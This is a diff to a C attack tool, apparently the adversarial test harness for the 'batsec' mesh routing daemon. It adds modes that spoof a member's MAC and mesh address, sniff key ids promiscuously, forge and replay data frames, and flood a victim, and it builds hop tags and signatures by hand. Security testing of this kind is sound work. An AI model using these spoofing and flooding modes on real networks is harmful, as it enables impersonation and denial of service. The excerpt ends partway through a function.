@@ -5,16 +5,19 @@
  * the test made, and never anywhere else.
  *
  *   batsec-attack -i IFACE -m MODE [-t SECS] [-r FRAMES/S] [-f FILE]
- *	[-c MAC,...] [-e ETHERTYPE]
+ *	[-c MAC,...] [-e ETHERTYPE] [-K KEYFILE] [-V ADDR] [-C ADDR]
+ *	[-T ADDR] [-M MAC] [-w TOKEN] [-y data] [-S MAC] [-x KINDS] [-n N]
  *
- * Modes:
+ * Control-plane modes:
  *   forge	HELLOs and OGM frames signed by random unknown keys (and
  *		random link tags), as fast as -r allows (0: no pause)
  *   sybil	become a neighbour with a fresh key (a stranger in mode
  *		open), then announce OGMs of freshly generated keys, each
  *		correctly signed, many per frame
- *   capture	write every control frame heard for SECS to FILE
+ *   capture	write every frame heard for SECS to FILE (-y data: only
+ *		UNICAST, BCAST and ECHO; -S MAC: only from that source)
  *   replay	send the frames of FILE again, as they were captured
+ *		(both MAC addresses kept), again and again for SECS
  *   inflate	become a neighbour, then relay every OGM entry heard
  *		with TQ 255 and one hop fewer than it had (hops 0 when
  *		it had 1), unchanged hop-chain element
@@ -22,8 +25,35 @@
  *   claim	become a neighbour and originate OGMs announcing the
  *		client MACs of -c and a gateway it has no right to
  *
- * Prints one line "sent N frames" at the end; exit 0, or 1 with a line
- * on stderr.
+ * Data-plane modes (version-2 data frames, laid out here by hand from
+ * the specification, see "version-2 data frames" below).  -V names the
+ * victim neighbour by mesh address, -C the member whose interface MAC and
+ * mesh address are copied, -T the destination originator; their MACs,
+ * keys and epochs are learnt from the HELLOs and OGMs heard.  Every inner
+ * frame carries -w TOKEN followed by a suffix naming its kind, so a
+ * listener on batsec0 can count what was delivered:
+ *   outsider	no admitted key: as -C, UNICAST, ECHO (to -T and to -V) and
+ *		BCAST frames of version 2 with random or sniffed key ids and
+ *		random tags ("-o2u", "-o2b"), and the same of version 1
+ *		("-o1u", "-o1b")
+ *   mutate	each frame of FILE, with one bit flipped in each of its
+ *		fields (first and last byte), once each; then -n copies of
+ *		nothing else
+ *   insider	-K: a node key the mesh admits; become a neighbour and
+ *		originator, then with correct hop tags send -x KINDS
+ *		(default "own,forge"): own = UNICAST to -T ("-iu"), ECHO to
+ *		-T, BCAST ("-ib"), all correct; forge = UNICAST and ECHO
+ *		with -C's source address ("-fu") and a BCAST of -C signed
+ *		by our key ("-fb")
+ *   bseq	-K as insider; each time a BCAST of -C is heard, send -n
+ *		BCASTs of -C with the next sequence numbers, correctly
+ *		hop-tagged for every neighbour but signed by our key
+ *   dflood	as -C to -V, UNICASTs with the sniffed (or a random) key
+ *		id and random tags, as fast as -r allows
+ *
+ * Prints "sent N frames" at the end, and for the data-plane modes
+ * "KEY VALUE" lines (echo_replies, echo_to_copy, keyid, ...); exit 0, or
+ * 1 with a line on stderr.
  */
 #include <arpa/inet.h>
 #include <errno.h>
@@ -39,19 +69,36 @@
 #include <time.h>
 #include <unistd.h>
 
+#include <sodium.h>
+
 #include "batsec_crypto.h"
+#include "batsec_keys.h"
 #include "lib/t_frames.h"
 #include "proto/wire.h"
 
 #define ATK_MAX_PEERS	16
+#define ATK_MAX_ORIGS	64
 #define ATK_POOL	64	/* random keys reused by forge */
+#define ATK_HOPKEY_LEN	16
 
+/* A HELLO sender: its link key, and the hop key of our link with it. */
 struct atk_peer {
 	uint8_t pk[BS_PK_LEN];
 	uint8_t addr[BS_ADDR_LEN];
 	uint8_t key[BS_LINKKEY_LEN];
 	uint8_t keyid[BS_KEYID_LEN];
 	int keyed;
+	uint8_t mac[6];
+	uint32_t epoch;
+	uint8_t hop[ATK_HOPKEY_LEN];
+	uint8_t hopid[BS_KEYID_LEN];
+};
+
+/* An originator heard in an OGM (or a HELLO): its key and epoch. */
+struct atk_orig {
+	uint8_t addr[BS_ADDR_LEN];
+	uint8_t pk[BS_PK_LEN];
+	uint32_t epoch;
 };
 
 struct atk {
@@ -66,9 +113,28 @@ struct atk {
 	uint64_t counter;
 	struct atk_peer peer[ATK_MAX_PEERS];
 	int n_peer;
+	struct atk_orig orig[ATK_MAX_ORIGS];
+	int n_orig;
 	uint64_t sent;
 	unsigned rate;
 	uint64_t start_ns;
+	uint8_t rx_dst[6];		/* destination MAC of the last frame */
+	/* The data-plane modes' targets (mesh addresses; set: non-zero). */
+	uint8_t victim[BS_ADDR_LEN], copy[BS_ADDR_LEN], target[BS_ADDR_LEN];
+	uint8_t inner_dst[6];		/* -M */
+	const char *token;		/* -w */
+	const char *kinds;		/* -x */
+	unsigned count;			/* -n */
+	int data_only;			/* -y data */
+	uint8_t only_src[6];		/* -S */
+	int has_only_src;
+	uint64_t hop_ctr;		/* our hop counter, lane 0 */
+	uint64_t e2e_ctr;
+	/* What the data-plane modes sniffed and saw. */
+	uint8_t sniff_keyid[BS_KEYID_LEN];
+	uint64_t sniff_ctr;
+	int sniffed;
+	uint64_t echo_replies, echo_to_copy;
 };
 
 static uint64_t
@@ -91,6 +157,7 @@ static void
 atk_open(struct atk *a, const char *ifname)
 {
 	struct sockaddr_ll sll;
+	struct packet_mreq mr;
 	struct ifreq ifr;
 
 	a->fd = socket(AF_PACKET, SOCK_RAW, htons(a->etype));
@@ -114,6 +181,13 @@ atk_open(struct atk *a, const char *ifname)
 	sll.sll_ifindex = a->ifindex;
 	if (bind(a->fd, (struct sockaddr *)&sll, sizeof(sll)) != 0)
 		atk_die("bind");
+	/* Hear the frames of the segment addressed to other stations. */
+	memset(&mr, 0, sizeof(mr));
+	mr.mr_ifindex = a->ifindex;
+	mr.mr_type = PACKET_MR_PROMISC;
+	if (setsockopt(a->fd, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &mr,
+	    sizeof(mr)) != 0)
+		atk_die("PACKET_ADD_MEMBERSHIP");
 }
 
 /* Keep to the rate: -r frames per second on average. */
@@ -130,15 +204,19 @@ atk_pace(struct atk *a)
 		usleep((useconds_t)((due - now) / 1000));
 }
 
-/* One Ethernet frame: broadcast, from src (NULL: our MAC). */
+/* One Ethernet frame to dst (NULL: broadcast), from src (NULL: our MAC). */
 static void
-atk_send(struct atk *a, const uint8_t *src, const uint8_t *p, size_t len)
+atk_send_to(struct atk *a, const uint8_t *dst, const uint8_t *src,
+    const uint8_t *p, size_t len)
 {
 	uint8_t f[14 + WIRE_OGM_MAX_LEN + 64];
 
 	if (len > sizeof(f) - 14)
 		return;
-	memset(f, 0xff, 6);
+	if (dst != NULL)
+		memcpy(f, dst, 6);
+	else
+		memset(f, 0xff, 6);
 	memcpy(f + 6, src != NULL ? src : a->mac, 6);
 	f[12] = (uint8_t)(a->etype >> 8);
 	f[13] = (uint8_t)a->etype;
@@ -148,24 +226,326 @@ atk_send(struct atk *a, const uint8_t *src, const uint8_t *p, size_t len)
 		a->sent++;
 }
 
+static void
+atk_send(struct atk *a, const uint8_t *src, const uint8_t *p, size_t len)
+{
+	atk_send_to(a, NULL, src, p, len);
+}
+
 /* A frame received within ms, payload into p (Ethernet header cut). */
 static ssize_t
 atk_recv(struct atk *a, uint8_t *src, uint8_t *p, size_t cap, int ms)
 {
 	uint8_t f[14 + 9200];
 	struct pollfd pfd = { a->fd, POLLIN, 0 };
+	struct sockaddr_ll sll;
+	socklen_t sl = sizeof(sll);
 	ssize_t n;
 
 	if (poll(&pfd, 1, ms) <= 0)
 		return -1;
-	n = recv(a->fd, f, sizeof(f), MSG_DONTWAIT);
+	n = recvfrom(a->fd, f, sizeof(f), MSG_DONTWAIT,
+	    (struct sockaddr *)&sll, &sl);
 	if (n < 14 || (size_t)(n - 14) > cap)
 		return -1;
+	if (sll.sll_pkttype == PACKET_OUTGOING)
+		return -1;	/* what we sent, whatever its source MAC */
 	if (memcmp(f + 6, a->mac, 6) == 0)
 		return -1;	/* our own */
+	memcpy(a->rx_dst, f, 6);
 	memcpy(src, f + 6, 6);
 	memcpy(p, f + 14, (size_t)n - 14);
 	return n - 14;
+}
+
+/* ---- version-2 data frames, laid out by hand --------------------------------- */
+
+/*
+ * The hostile node writes these frames itself, from the text of the
+ * specification (batsec-protocol(7), "Data frames"), rather than through
+ * the codec: it must write the frames the codec refuses to build, and
+ * its keys and tags, derived here with libsodium from the same text,
+ * check the daemon's own derivations (a control frame that the daemon
+ * refuses fails the test as surely as a forged one it accepts).
+ *
+ * UNICAST and ECHO: type, version, ttl, reserved, hop key id (4), hop
+ * counter (8), hop tag (8), then dst (6), src (6), src epoch (4), dst
+ * epoch (4), e2e counter (8), ciphertext, AEAD tag (16).
+ * BCAST: type, version, ttl, number of tags, hop counter (8), tags of 12
+ * (key id, tag), signed header of 20, inner frame, signature (64).
+ */
+#define D2_VERSION	2
+#define D2_TTL		50
+#define D2_KEYID_OFF	4
+#define D2_HCTR_OFF	8
+#define D2_HTAG_OFF	16
+#define D2_HTAG_LEN	8
+#define D2_E2E_OFF	24
+#define D2_E2E_LEN	28
+#define D2_CT_OFF	52
+#define D2_AEAD_LEN	16
+#define D2_OVERHEAD	(D2_CT_OFF + D2_AEAD_LEN)
+#define D2_HOP_IN	(16 + D2_E2E_LEN + D2_AEAD_LEN)
+#define D2_AD_LEN	(1 + D2_E2E_LEN)
+#define D2_BC_FIXED	12
+#define D2_BC_TAG_LEN	12
+#define D2_BC_MAX_TAGS	8
+#define D2_BC_SGN_LEN	20
+#define D2_BC_TAG_IN	(D2_BC_FIXED + D2_BC_SGN_LEN + BS_SIG_LEN)
+#define D2_ECHO_BODY	6
+#define D2_E2E_KEY_LEN	32
+#define D2_INNER_MAX	1518
+
+static const char d2_hop_label[] = "batsec2-hop";
+static const char d2_hopid_label[] = "batsec2-hopid";
+static const char d2_e2e_label[] = "batsec2-e2e";
+static const char d2_bcast_label[] = "batsec2 bcast";
+
+/*
+ * H = BLAKE2b-128(key = L, "batsec2-hop" || mac_lo || mac_hi || epoch_lo
+ * || epoch_hi), lo the end with the smaller MAC (then public key).
+ */
+static void
+d2_hop_key(uint8_t h[ATK_HOPKEY_LEN], const uint8_t link[BS_LINKKEY_LEN],
+    const uint8_t *mac_a, const uint8_t *pk_a, uint32_t ep_a,
+    const uint8_t *mac_b, const uint8_t *pk_b, uint32_t ep_b)
+{
+	uint8_t msg[sizeof(d2_hop_label) - 1 + 12 + 8];
+	size_t o = sizeof(d2_hop_label) - 1;
+	int order = memcmp(mac_a, mac_b, 6);
+
+	if (order == 0)
+		order = memcmp(pk_a, pk_b, BS_PK_LEN);
+	memcpy(msg, d2_hop_label, o);
+	memcpy(msg + o, order < 0 ? mac_a : mac_b, 6);
+	memcpy(msg + o + 6, order < 0 ? mac_b : mac_a, 6);
+	bs_put32(msg + o + 12, order < 0 ? ep_a : ep_b);
+	bs_put32(msg + o + 16, order < 0 ? ep_b : ep_a);
+	crypto_generichash(h, ATK_HOPKEY_LEN, msg, sizeof(msg), link,
+	    BS_LINKKEY_LEN);
+}
+
+static void
+d2_hop_keyid(uint8_t id[BS_KEYID_LEN], const uint8_t h[ATK_HOPKEY_LEN])
+{
+	uint8_t d[32];
+
+	crypto_generichash(d, sizeof(d), (const uint8_t *)d2_hopid_label,
+	    sizeof(d2_hopid_label) - 1, h, ATK_HOPKEY_LEN);
+	memcpy(id, d, BS_KEYID_LEN);
+}
+
+/* K(src -> dst) = BLAKE2b-256(key = L, "batsec2-e2e" || pks || epochs). */
+static void
+d2_e2e_key(uint8_t k[D2_E2E_KEY_LEN], const uint8_t link[BS_LINKKEY_LEN],
+    const uint8_t *src_pk, const uint8_t *dst_pk, uint32_t src_ep,
+    uint32_t dst_ep)
+{
+	uint8_t msg[sizeof(d2_e2e_label) - 1 + 2 * BS_PK_LEN + 8];
+	size_t o = sizeof(d2_e2e_label) - 1;
+
+	memcpy(msg, d2_e2e_label, o);
+	memcpy(msg + o, src_pk, BS_PK_LEN);
+	memcpy(msg + o + BS_PK_LEN, dst_pk, BS_PK_LEN);
+	bs_put32(msg + o + 2 * BS_PK_LEN, src_ep);
+	bs_put32(msg + o + 2 * BS_PK_LEN + 4, dst_ep);
+	crypto_generichash(k, D2_E2E_KEY_LEN, msg, sizeof(msg), link,
+	    BS_LINKKEY_LEN);
+}
+
+/* The hop tag of a sealed frame of len bytes (random without a key). */
+static void
+d2_sealed_tag(uint8_t *f, size_t len, const uint8_t *hop)
+{
+	uint8_t in[D2_HOP_IN];
+
+	if (hop == NULL) {
+		bs_random(f + D2_HTAG_OFF, D2_HTAG_LEN);
+		return;
+	}
+	memcpy(in, f, 16);
+	memcpy(in + 16, f + D2_E2E_OFF, D2_E2E_LEN);
+	memcpy(in + 16 + D2_E2E_LEN, f + len - D2_AEAD_LEN, D2_AEAD_LEN);
+	crypto_shorthash_siphash24(f + D2_HTAG_OFF, in, sizeof(in), hop);
+}
+
+/* A UNICAST or ECHO as its source seals it and one hop tags it. */
+struct d2_sealed {
+	uint8_t type;
+	const uint8_t *dst, *src;	/* mesh addresses */
+	uint32_t src_epoch, dst_epoch;
+	uint64_t e2e_ctr;
+	const uint8_t *pt;
+	size_t pt_len;
+	const uint8_t *e2e_key;		/* NULL: pt as it is, random AEAD tag */
+	const uint8_t *hop;		/* NULL: a random hop tag */
+	const uint8_t *keyid;		/* NULL: a random key id */
+	uint64_t hop_ctr;
+};
+
+/* The frame's length, 0 when it does not fit. */
+static size_t
+d2_sealed(uint8_t *buf, size_t cap, const struct d2_sealed *s)
+{
+	uint8_t nonce[12], ad[D2_AD_LEN];
+	size_t len;
+
+	if (cap < D2_OVERHEAD || s->pt_len > cap - D2_OVERHEAD)
+		return 0;
+	len = D2_OVERHEAD + s->pt_len;
+	buf[0] = s->type;
+	buf[1] = D2_VERSION;
+	buf[2] = D2_TTL;
+	buf[3] = 0;
+	if (s->keyid != NULL)
+		memcpy(buf + D2_KEYID_OFF, s->keyid, BS_KEYID_LEN);
+	else
+		bs_random(buf + D2_KEYID_OFF, BS_KEYID_LEN);
+	bs_put64(buf + D2_HCTR_OFF, s->hop_ctr);
+	memcpy(buf + D2_E2E_OFF, s->dst, BS_ADDR_LEN);
+	memcpy(buf + D2_E2E_OFF + 6, s->src, BS_ADDR_LEN);
+	bs_put32(buf + D2_E2E_OFF + 12, s->src_epoch);
+	bs_put32(buf + D2_E2E_OFF + 16, s->dst_epoch);
+	bs_put64(buf + D2_E2E_OFF + 20, s->e2e_ctr);
+	if (s->e2e_key != NULL) {
+		ad[0] = buf[0];
+		memcpy(ad + 1, buf + D2_E2E_OFF, D2_E2E_LEN);
+		memset(nonce, 0, 4);
+		bs_put64(nonce + 4, s->e2e_ctr);
+		crypto_aead_chacha20poly1305_ietf_encrypt_detached(
+		    buf + D2_CT_OFF, buf + len - D2_AEAD_LEN, NULL, s->pt,
+		    s->pt_len, ad, sizeof(ad), NULL, nonce, s->e2e_key);
+	} else {
+		memcpy(buf + D2_CT_OFF, s->pt, s->pt_len);
+		bs_random(buf + len - D2_AEAD_LEN, D2_AEAD_LEN);
+	}
+	d2_sealed_tag(buf, len, s->hop);
+	return len;
+}
+
+/* A BCAST: the originator's signed block, one tag per hop key. */
+struct d2_bcast {
+	uint64_t hop_ctr;
+	const uint8_t *orig;
+	uint32_t epoch, seqno;
+	const uint8_t *inner;
+	size_t inner_len;
+	const struct bs_identity *signer;	/* NULL: a random signature */
+	unsigned ntags;				/* 1..8 */
+	const uint8_t *const *hop;		/* ntags keys; NULL: random */
+	const uint8_t *const *keyid;		/* ntags ids; NULL: random */
+};
+
+static size_t
+d2_bcast(uint8_t *buf, size_t cap, const struct d2_bcast *b)
+{
+	uint8_t msg[16 + D2_BC_SGN_LEN + D2_INNER_MAX], in[D2_BC_TAG_IN];
+	size_t s, len, blen;
+	uint8_t *sig;
+	unsigned i;
+
+	if (b->ntags < 1 || b->ntags > D2_BC_MAX_TAGS ||
+	    b->inner_len > D2_INNER_MAX)
+		return 0;
+	s = D2_BC_FIXED + D2_BC_TAG_LEN * b->ntags;
+	blen = D2_BC_SGN_LEN + b->inner_len;
+	if (cap < s + blen + BS_SIG_LEN)
+		return 0;
+	len = s + blen + BS_SIG_LEN;
+	buf[0] = WIRE_T_BCAST;
+	buf[1] = D2_VERSION;
+	buf[2] = D2_TTL;
+	buf[3] = (uint8_t)b->ntags;
+	bs_put64(buf + 4, b->hop_ctr);
+	memset(buf + s, 0, D2_BC_SGN_LEN);
+	bs_put16(buf + s + 2, (uint16_t)b->inner_len);
+	memcpy(buf + s + 4, b->orig, BS_ADDR_LEN);
+	bs_put32(buf + s + 10, b->epoch);
+	bs_put32(buf + s + 14, b->seqno);
+	memcpy(buf + s + D2_BC_SGN_LEN, b->inner, b->inner_len);
+	sig = buf + s + blen;
+	if (b->signer != NULL) {
+		memset(msg, 0, 16);
+		memcpy(msg, d2_bcast_label, sizeof(d2_bcast_label) - 1);
+		memcpy(msg + 16, buf + s, blen);
+		crypto_sign_detached(sig, NULL, msg, 16 + blen,
+		    b->signer->sk);
+	} else
+		bs_random(sig, BS_SIG_LEN);
+	memcpy(in, buf, D2_BC_FIXED);
+	memcpy(in + D2_BC_FIXED, buf + s, D2_BC_SGN_LEN);
+	memcpy(in + D2_BC_FIXED + D2_BC_SGN_LEN, sig, BS_SIG_LEN);
+	for (i = 0; i < b->ntags; i++) {
+		uint8_t *t = buf + D2_BC_FIXED + D2_BC_TAG_LEN * i;
+
+		if (b->keyid != NULL && b->keyid[i] != NULL)
+			memcpy(t, b->keyid[i], BS_KEYID_LEN);
+		else
+			bs_random(t, BS_KEYID_LEN);
+		if (b->hop != NULL && b->hop[i] != NULL)
+			crypto_shorthash_siphash24(t + BS_KEYID_LEN, in,
+			    sizeof(in), b->hop[i]);
+		else
+			bs_random(t + BS_KEYID_LEN, D2_HTAG_LEN);
+	}
+	return len;
+}
+
+/* The originator, epoch and seqno of a version-2 BCAST; 0 when it is one. */
+static int
+d2_bcast_peek(const uint8_t *p, size_t len, const uint8_t **orig,
+    uint32_t *epoch, uint32_t *seqno)
+{
+	size_t s;
+
+	if (len < D2_BC_FIXED || p[0] != WIRE_T_BCAST || p[1] != D2_VERSION ||
+	    p[3] < 1 || p[3] > D2_BC_MAX_TAGS)
+		return -1;
+	s = D2_BC_FIXED + (size_t)D2_BC_TAG_LEN * p[3];
+	if (len - D2_BC_FIXED < s - D2_BC_FIXED + D2_BC_SGN_LEN)
+		return -1;
+	*orig = p + s + 4;
+	*epoch = bs_get32(p + s + 10);
+	*seqno = bs_get32(p + s + 14);
+	return 0;
+}
+
+/*
+ * Version-1 data frames, as the version-1 codec laid them out: UNICAST
+ * type, version, ttl, 0, dst, src, inner length, 0, 0, inner; BCAST type,
+ * version, ttl, 0, seqno, originator, inner length, inner; ECHO type,
+ * version, ttl, kind, dst, src, ident, seqno.
+ */
+static size_t
+d1_frame(uint8_t *buf, size_t cap, uint8_t type, const uint8_t *dst,
+    const uint8_t *src, uint32_t seqno, const uint8_t *inner,
+    size_t inner_len)
+{
+	size_t h = type == WIRE_T_BCAST ? 16 : 20;
+
+	if (cap < h || inner_len > cap - h || inner_len > D2_INNER_MAX)
+		return 0;
+	memset(buf, 0, h);
+	buf[0] = type;
+	buf[1] = 1;
+	buf[2] = D2_TTL;
+	if (type == WIRE_T_BCAST) {
+		bs_put32(buf + 4, seqno);
+		memcpy(buf + 8, src, BS_ADDR_LEN);
+		bs_put16(buf + 14, (uint16_t)inner_len);
+	} else {
+		memcpy(buf + 4, dst, BS_ADDR_LEN);
+		memcpy(buf + 10, src, BS_ADDR_LEN);
+		if (type == WIRE_T_ECHO) {
+			buf[3] = 1;	/* request */
+			bs_put16(buf + 16, (uint16_t)seqno);
+			bs_put16(buf + 18, (uint16_t)seqno);
+			return 20;
+		}
+		bs_put16(buf + 16, (uint16_t)inner_len);
+	}
+	memcpy(buf + h, inner, inner_len);
+	return h + inner_len;
 }
 
 /* ---- being a neighbour -------------------------------------------------------- */
@@ -202,30 +582,91 @@ atk_hello(struct atk *a)
 	atk_send(a, NULL, buf, t_hello(buf, sizeof(buf), &h, &a->id));
 }
 
-/* Learn the HELLO senders around us (and their link keys). */
+static struct atk_orig *
+atk_orig_find(struct atk *a, const uint8_t *addr)
+{
+	int i;
+
+	for (i = 0; i < a->n_orig; i++)
+		if (memcmp(a->orig[i].addr, addr, BS_ADDR_LEN) == 0)
+			return &a->orig[i];
+	return NULL;
+}
+
+static struct atk_peer *
+atk_peer_find(struct atk *a, const uint8_t *addr)
+{
+	int i;
+
+	for (i = 0; i < a->n_peer; i++)
+		if (memcmp(a->peer[i].addr, addr, BS_ADDR_LEN) == 0)
+			return &a->peer[i];
+	return NULL;
+}
+
+/* An originator's key and latest epoch. */
+static void
+atk_orig_note(struct atk *a, const uint8_t *pk, uint32_t epoch)
+{
+	uint8_t addr[BS_ADDR_LEN];
+	struct atk_orig *o;
+
+	bs_mesh_addr(addr, pk);
+	if ((o = atk_orig_find(a, addr)) == NULL) {
+		if (a->n_orig >= ATK_MAX_ORIGS)
+			return;
+		o = &a->orig[a->n_orig++];
+		memcpy(o->addr, addr, BS_ADDR_LEN);
+		memcpy(o->pk, pk, BS_PK_LEN);
+	}
+	o->epoch = epoch;
+}
+
+/* Learn the HELLO senders around us (link keys, MACs, hop keys). */
 static void
 atk_learn(struct atk *a, const uint8_t *p, size_t len)
 {
 	struct wire_hello h;
 	struct atk_peer *q;
 	uint8_t addr[BS_ADDR_LEN];
-	int i;
 
 	if (wire_hello_parse(p, len, &h) != WIRE_OK)
 		return;
 	bs_mesh_addr(addr, h.pk);
-	for (i = 0; i < a->n_peer; i++)
-		if (memcmp(a->peer[i].addr, addr, BS_ADDR_LEN) == 0)
+	atk_orig_note(a, h.pk, h.epoch);
+	if ((q = atk_peer_find(a, addr)) == NULL) {
+		if (a->n_peer >= ATK_MAX_PEERS)
 			return;
-	if (a->n_peer >= ATK_MAX_PEERS)
-		return;
-	q = &a->peer[a->n_peer++];
-	memcpy(q->pk, h.pk, BS_PK_LEN);
-	memcpy(q->addr, addr, BS_ADDR_LEN);
-	if (bs_link_key(q->key, &a->id, q->pk) == 0) {
-		bs_link_keyid(q->keyid, q->key);
-		q->keyed = 1;
+		q = &a->peer[a->n_peer++];
+		memcpy(q->pk, h.pk, BS_PK_LEN);
+		memcpy(q->addr, addr, BS_ADDR_LEN);
+		if (bs_link_key(q->key, &a->id, q->pk) == 0) {
+			bs_link_keyid(q->keyid, q->key);
+			q->keyed = 1;
+		}
 	}
+	if (q->epoch == h.epoch && memcmp(q->mac, h.ifmac, 6) == 0)
+		return;
+	q->epoch = h.epoch;
+	memcpy(q->mac, h.ifmac, 6);
+	if (q->keyed) {
+		d2_hop_key(q->hop, q->key, a->mac, a->id.pk, a->epoch, q->mac,
+		    q->pk, q->epoch);
+		d2_hop_keyid(q->hopid, q->hop);
+	}
+}
+
+/* The originators of an OGM frame (unverified: we only aim with them). */
+static void
+atk_learn_ogm(struct atk *a, const uint8_t *p, size_t len)
+{
+	static struct wire_ogm o;
+	unsigned i;
+
+	if (wire_ogm_parse(p, len, &o) != WIRE_OK)
+		return;
+	for (i = 0; i < o.num_entries; i++)
+		atk_orig_note(a, o.e[i].sgn.pk, o.e[i].sgn.epoch);
 }
 
 /* Frames heard for up to ms, handed to fn (may be NULL). */
@@ -245,6 +686,9 @@ atk_listen(struct atk *a, int ms,
 		if (wire_peek(p, (size_t)n, &type) == WIRE_OK &&
 		    type == WIRE_T_HELLO)
 			atk_learn(a, p, (size_t)n);
+		else if (wire_peek(p, (size_t)n, &type) == WIRE_OK &&
+		    type == WIRE_T_OGM)
+			atk_learn_ogm(a, p, (size_t)n);
 		if (fn != NULL)
 			fn(a, src, p, (size_t)n);
 	}
@@ -438,16 +882,24 @@ mode_sybil(struct atk *a, int secs)
 
 static FILE *cap_file;
 
+/* A captured frame: its length (u16, host order), then the whole frame. */
 static void
 cap_one(struct atk *a, const uint8_t *src, const uint8_t *p, size_t len)
 {
-	uint16_t l = (uint16_t)len;
+	uint16_t l = (uint16_t)(len + 14);
+	uint8_t et[2] = { (uint8_t)(a->etype >> 8), (uint8_t)a->etype };
 
-	(void)a;
 	if (len > 9000)
 		return;
+	if (a->data_only && (len < 2 || p[0] < WIRE_T_UNICAST ||
+	    p[0] > WIRE_T_ECHO))
+		return;
+	if (a->has_only_src && memcmp(src, a->only_src, 6) != 0)
+		return;
 	fwrite(&l, sizeof(l), 1, cap_file);
+	fwrite(a->rx_dst, 6, 1, cap_file);
 	fwrite(src, 6, 1, cap_file);
+	fwrite(et, 2, 1, cap_file);
 	fwrite(p, len, 1, cap_file);
 }
 
@@ -460,21 +912,32 @@ mode_capture(struct atk *a, int secs, const char *file)
 	fclose(cap_file);
 }
 
-/* Every captured frame, with its original source, again and again. */
+/* The next frame of a capture file; its length, 0 at the end. */
+static size_t
+cap_read(FILE *f, uint8_t *frame, size_t cap)
+{
+	uint16_t l;
+
+	if (fread(&l, sizeof(l), 1, f) != 1 || l < 14 || l > cap ||
+	    fread(frame, l, 1, f) != 1)
+		return 0;
+	return l;
+}
+
+/* Every captured frame, as it was captured, again and again. */
 static void
 mode_replay(struct atk *a, int secs, const char *file)
 {
-	uint8_t p[9200], src[6];
-	uint16_t l;
-	FILE *f;
+	uint8_t f[14 + 9200];
+	size_t l;
+	FILE *fp;
 
 	while (atk_running(a, secs)) {
-		if ((f = fopen(file, "rb")) == NULL)
+		if ((fp = fopen(file, "rb")) == NULL)
 			atk_die(file);
-		while (fread(&l, sizeof(l), 1, f) == 1 && l <= sizeof(p) &&
-		    fread(src, 6, 1, f) == 1 && fread(p, l, 1, f) == 1)
-			atk_send(a, src, p, l);
-		fclose(f);
+		while ((l = cap_read(fp, f, sizeof(f))) > 0)
+			atk_send_to(a, f, f + 6, f + 14, l - 14);
+		fclose(fp);
 	}
 }
 
@@ -619,25 +1082,583 @@ mode_claim(struct atk *a, int secs, const char *clients)
 	}
 }
 
+/* ---- the data-plane modes ------------------------------------------------------ */
+
+static const uint8_t atk_bcast_mac[6] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
+
+static int
+atk_set(const uint8_t *addr)
+{
+	static const uint8_t zero[BS_ADDR_LEN];
+
+	return memcmp(addr, zero, BS_ADDR_LEN) != 0;
+}
+
+/*
+ * The inner Ethernet frame of a data frame: dst (NULL: broadcast), our
+ * client MAC, ethertype 0x88b6, "TOKEN-kind" zero-padded to 64 bytes.
+ */
+static size_t
+atk_inner(const struct atk *a, uint8_t buf[14 + 64], const uint8_t *dst,
+    const char *kind)
+{
+	static const uint8_t client[6] = { 0x02, 0xba, 0x7a, 0xc4, 0x00, 0x01 };
+
+	memcpy(buf, dst != NULL ? dst : atk_bcast_mac, 6);
+	memcpy(buf + 6, client, 6);
+	buf[12] = 0x88;
+	buf[13] = 0xb6;
+	memset(buf + 14, 0, 64);
+	snprintf((char *)buf + 14, 64, "%s-%s", a->token, kind);
+	return 14 + 64;
+}
+
+/* The MAC we pose with as -C: heard in its HELLOs, else -S, else its address. */
+static const uint8_t *
+atk_copy_mac(struct atk *a)
+{
+	struct atk_peer *c = atk_peer_find(a, a->copy);
+
+	if (c != NULL)
+		return c->mac;
+	return a->has_only_src ? a->only_src : a->copy;
+}
+
+static uint32_t
+atk_epoch_of(struct atk *a, const uint8_t *addr)
+{
+	struct atk_orig *o = atk_orig_find(a, addr);
+
+	return o != NULL ? o->epoch : (uint32_t)time(NULL);
+}
+
+/*
+ * Watch the data frames heard: the key id and counter of -C's frames to
+ * -V (for guessed tags that reach the tag check), ECHOs sent to us, and
+ * ECHOs from -V to -C (replies to requests forged in -C's name).
+ */
+static void
+atk_watch(struct atk *a, const uint8_t *src, const uint8_t *p, size_t len)
+{
+	struct atk_peer *v = atk_peer_find(a, a->victim);
+
+	if (len < D2_OVERHEAD || p[1] != D2_VERSION ||
+	    (p[0] != WIRE_T_UNICAST && p[0] != WIRE_T_ECHO))
+		return;
+	if (p[0] == WIRE_T_ECHO && memcmp(a->rx_dst, a->mac, 6) == 0)
+		a->echo_replies++;
+	if (v == NULL || !atk_set(a->copy))
+		return;
+	if (memcmp(src, atk_copy_mac(a), 6) == 0 &&
+	    memcmp(a->rx_dst, v->mac, 6) == 0) {
+		memcpy(a->sniff_keyid, p + D2_KEYID_OFF, BS_KEYID_LEN);
+		if (bs_get64(p + D2_HCTR_OFF) > a->sniff_ctr)
+			a->sniff_ctr = bs_get64(p + D2_HCTR_OFF);
+		a->sniffed = 1;
+	}
+	if (p[0] == WIRE_T_ECHO && memcmp(src, v->mac, 6) == 0 &&
+	    memcmp(a->rx_dst, atk_copy_mac(a), 6) == 0)
+		a->echo_to_copy++;
+}
+
+/* Listen until -V (and -C when set) said HELLO, at most secs; 0 when so. */
+static int
+atk_aim(struct atk *a, int secs, int hello)
+{
+	int i;
+
+	for (i = 0; i < secs * 4; i++) {
+		if (hello)
+			atk_hello(a);
+		atk_listen(a, 250, atk_watch);
+		if (atk_peer_find(a, a->victim) != NULL &&
+		    (!atk_set(a->copy) || atk_orig_find(a, a->copy) != NULL) &&
+		    (!atk_set(a->target) || atk_orig_find(a, a->target) != NULL))
+			return 0;
+	}
+	fprintf(stderr, "batsec-attack: victim, copy or target not heard\n");
+	return -1;
+}
+
+static void
+atk_report(const struct atk *a)
+{
+	printf("echo_replies %llu\n", (unsigned long long)a->echo_replies);
+	printf("echo_to_copy %llu\n", (unsigned long long)a->echo_to_copy);
+	printf("keyid %s\n", a->sniffed ? "sniffed" : "guessed");
+}
+
+/* As -C, without its keys: version-2 frames with bad tags, version 1. */
+static void
+mode_outsider(struct atk *a, int secs)
+{
+	uint8_t f[D2_OVERHEAD + 14 + 64 + 256], in[14 + 64], echo[D2_ECHO_BODY];
+	const uint8_t *cm, *dst, *vmac, *ids[1];
+	struct atk_peer *v;
+	unsigned k = 0;
+	size_t il, n;
+
+	if (atk_aim(a, 8, 0) != 0)
+		exit(1);
